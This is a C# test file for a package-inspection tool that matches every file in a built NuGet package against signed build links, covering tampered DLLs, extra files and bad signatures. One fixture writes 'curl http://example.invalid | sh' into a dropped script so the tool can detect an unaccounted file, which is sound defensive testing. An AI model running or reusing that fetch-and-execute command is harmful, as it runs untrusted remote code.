using System.IO.Compression;
using SecureBuild.Core.Crypto;
using SecureBuild.Core.Inspection;
using SecureBuild.Core.Json;

namespace SecureBuild.Inspection.Tests;

/// <summary>Every file of a package accounted for by the links of the build that made it (a real `dotnet pack`).</summary>
public sealed class AccountingTests
{
    [Test]
    public void A_clean_library_with_its_links_has_every_file_accounted_for_and_passes()
    {
        var built = BuiltLibrary.Shared;
        var report = PackageInspector.Inspect(new InspectionOptions { Input = built.Package, LinksDirectory = built.Links, LinkKeys = new[] { built.Key.Public } });

        Assert.That(report.Failed, Is.False, report.ToText());
        Assert.That(report.Files.Where(f => f.Origin is null).Select(f => f.File.Path), Is.Empty);
        Assert.That(report.Files.Single(f => f.File.Path == "lib/net10.0/Lib.dll").Origin!.Step, Is.EqualTo("compile"));
        Assert.That(report.Files.Single(f => f.File.Path == "README.md").Origin!.IsProduct, Is.False, "the README is a material copied as is");
        Assert.That(report.LinksVerified, Is.True);
        // A plain library can do nothing to its consumers; only the absent strong name is worth a line.
        Assert.That(report.Findings.Select(f => f.Code).Distinct(), Is.EquivalentTo(new[] { InspectionCodes.NotStrongNamed }), report.ToText());
    }

    [Test]
    public void The_cli_passes_the_clean_library_with_exit_0_and_writes_the_documented_json()
    {
        var built = BuiltLibrary.Shared;
        var (exit, stdout, stderr) = Cli.Run("inspect", built.Package, "--links", built.Links, "--key", built.PublicKeyFile, "--format", "json");

        Assert.That(exit, Is.EqualTo(0), stderr + stdout);
        var json = (JsonMap)JsonParser.Parse(stdout);
        Assert.That(((JsonString)json["_type"]).Value, Is.EqualTo(InspectionReport.JsonType));
        Assert.That(((JsonString)json["result"]).Value, Is.EqualTo("pass"));
        Assert.That(((JsonList)json["steps"]).Select(s => ((JsonString)s).Value), Is.EquivalentTo(new[] { "compile", "pack" }));
        var dll = ((JsonList)json["files"]).Cast<JsonMap>().Single(f => ((JsonString)f["path"]).Value == "lib/net10.0/Lib.dll");
        var by = (JsonMap)dll["accountedBy"];
        Assert.That(((JsonString)by["step"]).Value, Is.EqualTo("compile"));
        Assert.That(((JsonString)by["as"]).Value, Is.EqualTo("product"));
        Assert.That(((JsonString)by["artifact"]).Value, Does.EndWith("Lib.dll"));
    }

    [Test]
    public void A_dll_swapped_in_after_pack_is_unaccounted_named_and_fails_with_exit_1()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        var tampered = Path.Combine(temp.Path, "Sample.Lib.1.0.0.nupkg");
        File.Copy(built.Package, tampered);
        using (var zip = ZipFile.Open(tampered, ZipArchiveMode.Update))
        {
            zip.GetEntry("lib/net10.0/Lib.dll")!.Delete();
            using var stream = zip.CreateEntry("lib/net10.0/Lib.dll").Open();
            stream.Write(Packages.Assembly("Lib", "namespace Sample.Lib; public static class Greeter { public static string Hello(string n) => \"pwned\"; }"));
        }

        var (exit, stdout, _) = Cli.Run("inspect", tampered, "--links", built.Links);

        Assert.That(exit, Is.EqualTo(1), stdout);
        Assert.That(stdout, Does.Contain("error SB4301 lib/net10.0/Lib.dll:"));
        Assert.That(stdout.Split('\n').Count(l => l.StartsWith("error SB4301", StringComparison.Ordinal)), Is.EqualTo(1), stdout);
    }

    [Test]
    public void A_file_added_to_a_publish_folder_is_unaccounted()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        File.Copy(Path.Combine(built.Root, "src/bin/Release/net10.0/Lib.dll"), Path.Combine(temp.Path, "Lib.dll"));
        temp.Write("extra.sh", Packages.Text("curl http://example.invalid | sh\n"));

        var report = PackageInspector.Inspect(new InspectionOptions { Input = temp.Path, LinksDirectory = built.Links });

        Assert.That(report.IsPackage, Is.False);
        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.Unaccounted).Select(f => f.Path), Is.EqualTo(new[] { "extra.sh" }));
        Assert.That(report.Files.Single(f => f.File.Path == "Lib.dll").Origin!.Step, Is.EqualTo("compile"));
    }

    [Test]
    public void Links_signed_by_another_key_are_refused_with_exit_2()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        var other = temp.Write("other.pub", Packages.Text(SigningKey.Generate(KeyType.Ed25519).ExportPublic()));

        var (exit, _, stderr) = Cli.Run("inspect", built.Package, "--links", built.Links, "--key", other);

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4304"));
    }

    [Test]
    public void A_link_changed_after_signing_is_refused_with_exit_2()
    {
        var built = BuiltLibrary.Shared;
        using var temp = new TempDirectory();
        foreach (var link in Directory.GetFiles(built.Links, "*.link"))
        {
            File.Copy(link, Path.Combine(temp.Path, Path.GetFileName(link)));
        }

        var compile = Directory.GetFiles(temp.Path, "compile.*.link").Single();
        var text = File.ReadAllText(compile);
        var digest = Sha256Hex.Of(Packages.Text("anything"));
        File.WriteAllText(compile, System.Text.RegularExpressions.Regex.Replace(text, "[0-9a-f]{64}\"\\s*\\}", digest + "\"}", System.Text.RegularExpressions.RegexOptions.None, TimeSpan.FromSeconds(5)));
        Assert.That(File.ReadAllText(compile), Is.Not.EqualTo(text), "the test must change the link");

        var (exit, _, stderr) = Cli.Run("inspect", built.Package, "--links", temp.Path, "--key", built.PublicKeyFile);

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4304"));
    }

    [Test]
    public void Without_links_nothing_is_accounted_and_the_report_says_so()
    {
        var report = PackageInspector.Inspect(new InspectionOptions { Input = BuiltLibrary.Shared.Package });

        Assert.That(report.Findings.Select(f => f.Code), Does.Contain(InspectionCodes.NotAccounted));
        Assert.That(report.Files.All(f => f.Origin is null), Is.True);
        Assert.That(report.Failed, Is.False);
    }

    [TestCase("missing-folder")]
    [TestCase("not-a-link")]
    public void A_links_folder_that_cannot_be_used_is_exit_2_with_SB4303(string kind)
    {
        using var temp = new TempDirectory();
        var links = Path.Combine(temp.Path, "links");
        if (kind == "not-a-link")
        {
            temp.Write("links/compile.12345678.link", Packages.Text("{\"signed\": 1}"));
        }

        var (exit, _, stderr) = Cli.Run("inspect", BuiltLibrary.Shared.Package, "--links", links);

        Assert.That(exit, Is.EqualTo(2));
        Assert.That(stderr, Does.Contain("SB4303"));
    }
}
